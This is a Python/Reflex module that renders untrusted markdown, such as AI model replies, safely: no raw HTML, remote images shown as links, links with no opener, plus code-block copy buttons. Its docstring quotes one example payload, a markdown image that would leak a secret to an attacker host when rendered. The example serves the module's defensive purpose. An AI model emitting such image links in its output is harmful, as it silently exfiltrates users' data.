"""Markdown for untrusted text (model output, imports): no raw HTML, and no remote image loads by itself.

A reply like `![](https://evil.example/?d=<secret>)` would make the browser fetch that URL the moment it
renders, leaking data without a click. Images load only from the page's own origin (the app's files);
any other image is shown as a link the member can choose to open.

The rest is presentation, styled by assets/markdown.css under `.solo-md`: plain headings, paragraphs and
lists (sized for a chat bubble, not a page), links that open in a new tab without an opener, tables in a
horizontally scrolling frame, and code blocks with a header (language, a quiet Copy button that says
"Copied" for two seconds) whose code scrolls sideways inside the block instead of widening the message.
"""

from __future__ import annotations

from typing import Any

import reflex as rx
from reflex_base.components.component import Component
from reflex_base.utils.imports import ImportDict, ImportVar
from reflex_base.vars.base import LiteralVar, Var
from reflex_base.vars.sequence import LiteralArrayVar
from reflex_components_markdown.markdown import _MOCK_ARG, Markdown

# react-markdown calls these for its elements. `jsx` is in scope in every compiled page (from @emotion/react).
_IMG = """(({node, src, alt, title}) => {
  let url = null;
  try { url = new URL(src, window.location.href); } catch (e) { url = null; }
  if (url && url.origin === window.location.origin) {
    return jsx("img", {src: url.href, alt: alt || "", title: title, className: "solo-md-img"});
  }
  return jsx("a", {href: src, target: "_blank", rel: "noopener noreferrer nofollow",
    className: "solo-md-image-link", title: "Remote image (not loaded): " + src},
    "Image: " + (alt || src));
})"""

# Links leave the app in a new tab that cannot reach back (no opener, no referrer); links within the reply
# (footnotes: "#...") stay in place. react-markdown has already dropped unsafe schemes (javascript: etc.).
_A = """(({node, href, children, ...props}) => {
  const local = typeof href === "string" && href.startsWith("#");
  return jsx("a", local ? {...props, href: href} :
    {...props, href: href, target: "_blank", rel: "noopener noreferrer nofollow"}, children);
})"""

# A wide table scrolls inside its own frame (focusable, so the keyboard can scroll it too).
_TABLE = """(({node, children, ...props}) => jsx("div",
  {className: "solo-md-table", tabIndex: 0, role: "region", "aria-label": "Table"},
  jsx("table", props, children)))"""

_INLINE_CODE = (
    """(({node, children, ...props}) => jsx("code", {...props, className: "solo-md-code"}, children))"""
)

_COLOR_MODE_HOOK = "const { resolvedColorMode } = useContext(ColorModeContext)"

# react-markdown's own elements (styled by markdown.css) instead of Radix typography sized for pages.
_PLAIN = ("h1", "h2", "h3", "h4", "h5", "h6", "p", "ul", "ol", "li")

# The code block's Copy button: a React component with its own two-second "Copied" state. Its accessible
# name follows the label ("Copy code", then "Copied"), and a status region beside it says the same to screen
# readers. Without the async clipboard (plain-http pages) it falls back to a hidden textarea and execCommand;
# if both fail it says so, and the code is still there to select by hand.
_COPY_CODE_JS = """
const soloWriteClipboard = async (text) => {
  if (navigator.clipboard && window.isSecureContext) {
    try { await navigator.clipboard.writeText(text); return true; } catch (e) { /* try the fallback */ }
  }
  const focused = document.activeElement;
  const area = document.createElement("textarea");
  area.value = text;
  area.setAttribute("readonly", "");
  area.style.position = "fixed";
  area.style.top = "0";
  area.style.opacity = "0";
  document.body.appendChild(area);
  area.select();
  let ok = false;
  try { ok = document.execCommand("copy"); } catch (e) { ok = false; }
  area.remove();
  if (focused && focused.focus) focused.focus();
  return ok;
};
const SOLO_COPY_LABELS = {
  idle: ["Copy code", "Copy", ""],
  copied: ["Copied", "Copied", "Code copied to the clipboard"],
  failed: ["Copy failed", "Copy failed", "Could not copy: select the code and copy it by hand"],
};
function SoloCopyCode({code, children}) {
  const [status, setStatus] = useState("idle");
  const timer = useRef(null);
  useEffect(() => () => clearTimeout(timer.current), []);
  const onClick = async () => {
    const ok = await soloWriteClipboard(String(code ?? ""));
    setStatus(ok ? "copied" : "failed");
    clearTimeout(timer.current);
    timer.current = setTimeout(() => setStatus("idle"), ok ? 2000 : 4000);
  };
  const [name, text, said] = SOLO_COPY_LABELS[status];
  return jsx("span", {className: "solo-code-actions"},
    jsx("button", {type: "button", className: "solo-code-copy", "aria-label": name,
      "data-status": status, onClick: onClick},
      children, jsx("span", {className: "solo-code-copy-text", "aria-hidden": "true"}, text)),
    jsx("span", {role: "status", className: "solo-sr-only"}, said));
}
"""


class _CopyCode(Component):
    """The Copy button of a code block (defined in `_COPY_CODE_JS`; its children are the two icons)."""

    tag = "SoloCopyCode"

    code: Var[str]

    def add_imports(self) -> ImportDict:
        return {"react": [ImportVar(tag="useState"), ImportVar(tag="useRef"), ImportVar(tag="useEffect")]}


class SafeMarkdown(Markdown):
    """react-markdown with our element rules (images above all) in the component map."""

    def format_component_map(self) -> dict[str, Var]:
        components = super().format_component_map()
        for tag in _PLAIN:
            components.pop(tag, None)
        components["img"] = Var(_js_expr=_IMG)
        components["a"] = Var(_js_expr=_A)
        components["table"] = Var(_js_expr=_TABLE)
        components["code"] = Var(_js_expr=_INLINE_CODE)
        return components

    def _get_custom_code(self) -> str | None:
        """Markdown's component-map function, but its element functions made once per colour mode: Reflex's
        own builds new ones on every render, so React remounts every code block, table and link of every
        reply whenever the message list re-renders (while another reply streams, say), losing a Copy
        button's "Copied", focus and scroll position. The map reads nothing but the colour mode (for the
        code theme); it runs inside the list's render, not as a component, so it cannot hold hooks of its
        own: the cache lives at module level."""
        from reflex_base.compiler.templates import _render_hooks

        hooks: dict[str, Any] = {}
        for factory in self.component_map.values():
            hooks.update(factory(_MOCK_ARG)._get_all_hooks())
        formatted_hooks = _render_hooks(hooks)
        name = self._get_component_map_name()
        component_map = LiteralVar.create(self.format_component_map())
        if formatted_hooks.strip() != _COLOR_MODE_HOOK:
            return super()._get_custom_code()  # something else in the map: no caching
        return f"""
        const {name}_cache = {{}};
        function {name} () {{
            {formatted_hooks}
            return ({name}_cache[resolvedColorMode] ??= ({component_map!s}));
        }}
        """

    def add_custom_code(self) -> list[str]:
        # The code block's renderer lives in the component map, whose custom code Markdown does not collect.
        return [_COPY_CODE_JS]

    def add_imports(self) -> ImportDict | list[ImportDict]:
        imports = super().add_imports()
        listed = imports if isinstance(imports, list) else [imports]
        return [*listed, _CopyCode.create(code="")._get_all_imports()]

    def _get_component_map_name(self) -> str:
        # Not the name a plain rx.markdown with the same map would use: the functions differ.
        return f"SafeComponentMap_{self.component_map_hash}"


def _code_block(value: Any, language: Var | None = None, **props: Any) -> rx.Component:
    """A fenced code block: a header (language, Copy) over the highlighted code, which scrolls sideways."""
    if language is not None:
        props["language"] = language
    label = rx.cond(language != "", language, "text") if language is not None else "text"
    return rx.el.div(
        rx.el.div(
            rx.el.span(label, class_name="solo-code-lang"),
            _CopyCode.create(
                rx.icon("copy", size=14, class_name="solo-code-icon-idle", aria_hidden="true"),
                rx.icon("check", size=14, class_name="solo-code-icon-done", aria_hidden="true"),
                code=value,
            ),
            class_name="solo-code-head",
        ),
        rx.code_block(
            value,
            can_copy=False,
            wrap_long_lines=False,
            custom_style={"margin": "0", "padding": "12px 14px", "borderRadius": "0", "fontSize": "0.85rem"},
            code_tag_props={"style": {"fontSize": "inherit", "whiteSpace": "pre"}},
            custom_attrs={"tabIndex": 0, "className": "solo-code-pre"},
            **props,
        ),
        class_name="solo-code",
    )


def safe_markdown(text: rx.Var, **props: Any) -> rx.Component:
    """What `rx.markdown` builds (GFM, math), minus raw HTML (rehype-raw would render the text's HTML),
    with the element rules above."""
    plugin = rx.markdown.plugin
    inner = SafeMarkdown.create(
        text,
        component_map={"pre": _code_block},
        remark_plugins=LiteralArrayVar.create([plugin.math, plugin.gfm]).to(list),
        rehype_plugins=LiteralArrayVar.create([plugin.katex, plugin.unwrap_images]).to(list),
    )
    return rx.box(inner, class_name="solo-md", **props)
